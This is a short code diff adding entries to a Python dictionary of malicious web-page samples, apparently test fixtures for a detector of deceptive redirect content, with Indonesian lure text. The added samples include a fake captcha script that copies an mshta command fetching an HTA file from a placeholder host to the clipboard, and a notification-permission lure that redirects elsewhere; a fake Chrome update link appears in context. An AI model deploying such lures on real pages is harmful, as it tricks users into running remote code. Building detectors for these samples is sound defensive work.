@@ -75,6 +75,16 @@ EVIL: dict[str, tuple[str, str, str]] = {
         "pembaruan",
         "<h2>Your Chrome is out of date</h2><a href=/u/Chrome.zip>Update</a>",
     ),
+    "a command that fetches a program, whatever the page says": (
+        "CONTENT.REDIRECT",
+        "robot",
+        "<p>Satu langkah lagi, ikuti gambar.</p><script>k.onclick=()=>navigator.clipboard.writeText('mshta https://langkah-lagi.example/a.hta')</script>",
+    ),
+    "notifications whose answer leads to a stranger, whatever the page says": (
+        "CONTENT.REDIRECT",
+        "notifikasi",
+        "<p>Tunggu sebentar.</p><script>Notification.requestPermission().then(function(){location.href='https://tunggu-sini.example/ok'})</script>",
+    ),
     "false captcha": (
         "CONTENT.REDIRECT",
         "bukan robot",
